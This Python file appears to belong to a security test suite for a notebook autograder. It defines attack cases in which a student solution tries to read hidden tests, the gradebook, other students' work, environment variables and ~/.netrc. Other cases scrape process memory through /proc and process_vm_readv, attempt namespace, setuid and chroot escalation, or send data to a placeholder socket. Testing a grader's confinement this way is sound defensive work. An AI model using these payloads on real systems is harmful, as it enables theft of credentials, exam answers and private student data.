"""Attacks that read: hidden tests, the source, the gradebook, other students, the environment, memory, files, the network.

Most try twice: when the notebook is run, and within a call from a hidden test, when the tests are surely somewhere in memory."""

from .attack import LOOK, Attack
from .course import RIGHT_MEAN, WRONG_MEAN

TWICE = """
def mean_filter(values, width):
    spy()
    return []
def describe(values):
    spy()
    return {}
spy()
"""
MEMORY = """
def scan(pid, limit=600_000_000):
    try:
        areas = open(f"/proc/{pid}/maps").read().splitlines()
        memory = open(f"/proc/{pid}/mem", "rb", buffering=0)
    except OSError:
        return
    for area in areas:
        where, rights, _, _, inode = area.split()[:5]
        begin, end = (int(part, 16) for part in where.split("-"))
        if rights[0] == "r" and "w" in rights and inode == "0" and end - begin < limit and limit > 0:
            limit -= end - begin
            try:
                memory.seek(begin)
                look(memory.read(end - begin), "memory of " + str(pid))
            except (OSError, ValueError, OverflowError):
                pass
"""


def case(name, goal, code, stock, **rest):
    """A wrong solution that looks around; `code` defines spy()."""
    return Attack(
        name,
        goal,
        "reading",
        stock,
        mean=f"{WRONG_MEAN}\n{LOOK}\n{code}\n{TWICE}",
        describe="# above",
        **rest,
    )


ATTACKS = [
    case(
        "reads-own-folder",
        "The notebook beside one's own process holds the hidden tests.",
        """
def spy():
    look_in("*", "*/*", ".*", "../*", "../*/*")""",
        "reads hidden",
    ),
    case(
        "reads-source-by-guessing",
        "The source notebook is found by guessing up from the folder.",
        """
def spy():
    for up in range(1, 8):
        look_in("../" * up + "source/*/*", "../" * up + "release/*/*")""",
        "reads hidden, solution",
    ),
    case(
        "reads-source-by-its-path",
        "The source notebook is read by its absolute path.",
        """
def spy():
    look_in("{{COURSE}}/source/*/*", "{{COURSE}}/*.ipynb")""",
        "reads hidden, solution",
    ),
    case(
        "reads-gradebook",
        "The gradebook is copied.",
        """
def spy():
    look_in("{{COURSE}}/gradebook.db*", "../../../gradebook.db*")""",
        "reads hidden, gradebook",
    ),
    case(
        "reads-gradebook-by-sqlite",
        "The gradebook is asked by SQL.",
        """
def spy():
    import sqlite3
    try:
        book = sqlite3.connect("file:{{COURSE}}/gradebook.db?mode=ro", uri=True)
        for table, in book.execute("select name from sqlite_master where type='table'").fetchall():
            look(repr(book.execute(f"select * from {table}").fetchall()), "sql " + table)
    except sqlite3.Error:
        pass""",
        "reads hidden, gradebook",
    ),
    case(
        "reads-other-students",
        "Other students' work is read in submitted/ and autograded/.",
        """
def spy():
    look_in("{{COURSE}}/submitted/*/*/*", "{{COURSE}}/autograded/*/*/*", "../../*/*/*")""",
        "reads hidden, victim",
    ),
    case(
        "reads-environment",
        "The grader's environment variables are read.",
        """
def spy():
    look(repr(dict(os.environ)), "environ")
    look_in("/proc/self/environ", "/proc/thread-self/environ")""",
        "reads environ",
    ),
    case(
        "reads-home",
        "The grader's home folder is read.",
        """
def spy():
    import pathlib
    try:
        look_in(str(pathlib.Path.home() / ".*"), "{{HOME}}/.netrc", os.path.expanduser("~/.netrc"))
    except RuntimeError:
        pass""",
        "reads home",
    ),
    case(
        "reads-ancestors-environment",
        "Environment and arguments of parent, grandparents and everything in /proc are read.",
        """
def spy():
    look_in("/proc/[0-9]*/environ", "/proc/[0-9]*/cmdline", f"/proc/{os.getppid()}/environ", limit=1_000_000)""",
        "reads environ",
    ),
    case(
        "reads-ancestors-files",
        "Working directories, roots and open files of other processes are entered through /proc.",
        """
def spy():
    for up in ("cwd", "root{{COURSE}}"):
        look_in(f"/proc/[0-9]*/{up}/source/*/*", f"/proc/[0-9]*/{up}/gradebook.db", f"/proc/[0-9]*/{up}/submitted/zz*/*/*")
    look_in(f"/proc/{os.getppid()}/fd/*", limit=100_000)""",
        "reads gradebook, hidden, solution, victim",
    ),
    case(
        "reads-parents-memory",
        "The memory of parent and grandparent is scanned.",
        MEMORY
        + """
def spy():
    scan(os.getppid())
    try:
        scan(open(f"/proc/{os.getppid()}/stat").read().rpartition(")")[2].split()[1])
    except OSError:
        pass""",
        "reads hidden",
        dangerous=True,
    ),
    case(
        "reads-own-memory",
        "The process's own memory is scanned for what was loaded before or came along.",
        MEMORY
        + """
def spy():
    scan("self")""",
        "reads hidden",
    ),
    case(
        "reads-parents-memory-by-syscall",
        "process_vm_readv and ptrace are tried on parent and siblings.",
        """
def spy():
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    class Area(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]
    for pid in {os.getppid(), 1, os.getpid() - 1, os.getpid() + 1}:
        try:
            areas = open(f"/proc/{pid}/maps").read().splitlines()
        except OSError:
            continue
        for area in areas[:2000]:
            begin, end = (int(part, 16) for part in area.split()[0].split("-"))
            if " rw" in area and end - begin < 50_000_000:
                room = ctypes.create_string_buffer(end - begin)
                here, there = Area(ctypes.addressof(room), end - begin), Area(begin, end - begin)
                if libc.process_vm_readv(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) > 0:
                    look(room.raw, f"process_vm_readv {pid}")""",
        "reads hidden",
        dangerous=True,
    ),
    case(
        "reads-objects",
        "Every object the garbage collector knows is searched, constants of code included.",
        """
def spy():
    import gc, types
    seen = []
    for thing in gc.get_objects():
        if isinstance(thing, (str, bytes)):
            seen.append(str(thing))
        elif type(thing) in (dict, list, tuple):
            seen += [each for each in (thing.values() if type(thing) is dict else thing) if type(each) is str and "CANARY" in each]
        elif isinstance(thing, types.FunctionType):
            seen += [each for each in thing.__code__.co_consts if type(each) is str]
    look("\\n".join(seen), "gc")""",
        "reads hidden",
    ),
    case(
        "reads-frames",
        "The frames below a call hold the test's text, names and constants.",
        """
def spy():
    import sys
    frame = sys._getframe(1)
    while frame:
        look(repr(frame.f_code.co_consts) + repr(list(frame.f_locals.values()))[:500_000] + repr(frame.f_globals.get("note")), "frames")
        frame = frame.f_back""",
        "reads hidden",
    ),
    case(
        "reads-history",
        "The shell's history and cached lines hold the test cells.",
        """
def spy():
    import linecache
    ip = get_ipython()
    look(repr(ip.history_manager.input_hist_raw) + repr(ip.user_ns.get("In")) + repr(linecache.cache), "history")
    look(repr(list(ip.history_manager.get_tail(50))), "history file")""",
        "reads hidden",
    ),
    case(
        "reads-open-files",
        "Inherited file descriptors are read, sought and entered as folders.",
        """
def spy():
    for number in range(3, 300):
        try:
            look(os.pread(number, 1_000_000, 0), f"fd {number}")
        except OSError:
            pass
        for inner in ("source/means/means.ipynb", "../source/means/means.ipynb", "gradebook.db"):
            try:
                look(os.read(os.open(inner, os.O_RDONLY, dir_fd=number), 1_000_000), f"fd {number} {inner}")
            except OSError:
                pass""",
        "holds",
    ),
    case(
        "reads-through-a-socket-message",
        "Whatever waits in an inherited socket is peeked at.",
        """
def spy():
    for number in range(3, 300):
        try:
            with socket.socket(fileno=os.dup(number)) as peek:
                peek.setblocking(False)
                look(peek.recv(1_000_000, socket.MSG_PEEK), f"socket {number}")
        except (OSError, ValueError):
            pass""",
        "holds",
    ),
    case(
        "reads-through-links-made-inside",
        "Symbolic and hard links to the source are made in the folder for whoever copies it back.",
        """
def spy():
    for name, goal in (("a", "{{COURSE}}/source/means/means.ipynb"), ("b", "{{COURSE}}/gradebook.db"), ("c", "{{HOME}}/.netrc")):
        for make in (os.symlink, os.link):
            try:
                make(goal, name + make.__name__)
            except OSError:
                pass
    look_in("a*", "b*", "c*")""",
        "reads gradebook, hidden, home, solution",
    ),
    case(
        "reads-in-a-child",
        "A child process started from a shell looks around instead.",
        """
def spy():
    import subprocess
    for words in ("cat {{COURSE}}/source/means/means.ipynb {{COURSE}}/gradebook.db", "env", "cat {{HOME}}/.netrc", "ps axe"):
        try:
            look(subprocess.run(words, shell=True, capture_output=True, timeout=3).stdout, words.split()[0])
        except (OSError, subprocess.SubprocessError):
            pass""",
        "reads environ, gradebook, hidden, home, solution",
        dangerous=True,
    ),
    case(
        "reads-with-new-namespaces",
        "A user namespace, chroot, mounts and setuid are tried for more rights.",
        """
def spy():
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    child = os.fork()
    if child == 0:
        for flags in (0x10000000, 0x10020000, 0x00020000):
            libc.unshare(flags)
        libc.setuid(0), libc.setgid(0)
        libc.mount(b"/", b"/tmp", None, 4096 | 16384, None)
        libc.umount2(b"{{COURSE}}", 2)
        look_in("{{COURSE}}/source/*/*", "/tmp{{COURSE}}/source/*/*")
        for up in range(20):
            try:
                os.chdir("..")
            except OSError:
                break
        try:
            os.chroot(".")
        except OSError:
            pass
        look_in("{{COURSE}}/source/*/*")
        os._exit(0)
    os.waitpid(child, 0)""",
        "reads hidden, solution",
        dangerous=True,
    ),
    case(
        "talks-to-the-network",
        "What the process knows is sent to a listener, by TCP, UDP, IPv6 and abstract sockets.",
        """
def spy():
    look(repr(dict(os.environ)) + repr(get_ipython().user_ns.get("note")), "network")
    for family, kind, where in ((socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", {{PORT}})), (socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", {{PORT}})),
                                (socket.AF_UNIX, socket.SOCK_STREAM, "{{OUTSIDE}}/socket")):
        try:
            with socket.socket(family, kind) as wire:
                wire.settimeout(1)
                wire.connect(where)
                wire.sendall(b"hello")
                if kind == socket.SOCK_STREAM:
                    print("BOAST talks to the network!")
        except OSError:
            pass""",
        "reads environ, hidden; talks to the network",
    ),
    Attack(
        "reads-by-import",
        "The grader's own packages and what they loaded are asked for the tests.",
        "reading",
        "holds",
        mean=WRONG_MEAN
        + LOOK
        + """
import sys
def spy():
    for module in list(sys.modules.values()):
        name = getattr(module, "__name__", "")
        if name.split(".")[0] in ("nbgrader", "proctor", "__main__", "__mp_main__"):
            for key, value in list(vars(module).items()):
                look(repr(value)[:200_000], name)
    for name in ("nbgrader.api", "proctor.book", "proctor.course"):
        try:
            __import__(name)
        except Exception:
            pass
    sys.path[:0] = ["{{COURSE}}/source/means"]"""
        + TWICE,
        describe="# above",
    ),
    Attack(
        "reads-through-tracebacks",
        "Errors raised in the call carry frames and locals of the test to the student's own output.",
        "reading",
        "reads hidden",
        mean=WRONG_MEAN
        + LOOK
        + """
import sys, traceback
class Deep(Exception):
    def __str__(self):
        look("".join(traceback.format_stack()) + repr(sys._getframe(1).f_locals), "traceback")
        frame = sys._getframe(0)
        while frame:
            look(repr(frame.f_globals.get("note")), "traceback names")
            frame = frame.f_back
        return "deep"
def mean_filter(values, width):
    raise Deep(str(Deep()))
def describe(values):
    raise ValueError(Deep())""",
        describe="# above",
    ),
    Attack(
        "reads-what-others-left",
        "Files left by students graded before are looked for in temporary folders and shared memory.",
        "reading",
        "holds",
        mean=RIGHT_MEAN
        + LOOK
        + """
import tempfile
look_in(tempfile.gettempdir() + "/*", tempfile.gettempdir() + "/*/*", "/dev/shm/*", "{{HOME}}/../tmp/*", limit=1_000_000)""",
        merits={"checks-mean": 4, "checks-both": 4},
    ),
]
